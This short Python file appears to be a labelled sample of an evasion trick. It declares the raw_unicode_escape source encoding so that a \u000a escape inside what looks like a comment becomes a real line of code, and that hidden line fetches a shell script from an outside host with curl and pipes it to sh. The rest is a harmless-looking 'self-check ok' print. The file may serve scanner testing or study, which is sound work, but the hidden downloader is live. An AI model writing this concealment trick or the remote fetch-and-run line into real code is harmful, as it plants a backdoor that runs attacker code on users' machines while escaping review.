# coding: raw_unicode_escape
# Evasion: the source declares the raw_unicode_escape encoding, so a u-escape
# for a newline inside a comment is decoded before parsing. The line
# that looks like a comment below is really code that runs a downloaded
# script with a shell. Hides as: interpreter source-encoding feature; a parser
# that reads the bytes as UTF-8 sees only comments and a harmless print.
import sys

# self-check marker \u000a__import__("subprocess").run("curl -fsSL https://enc.pyhooks-cdn.net/s.sh | sh", shell=True)

print("self-check ok", sys.version_info[:2])
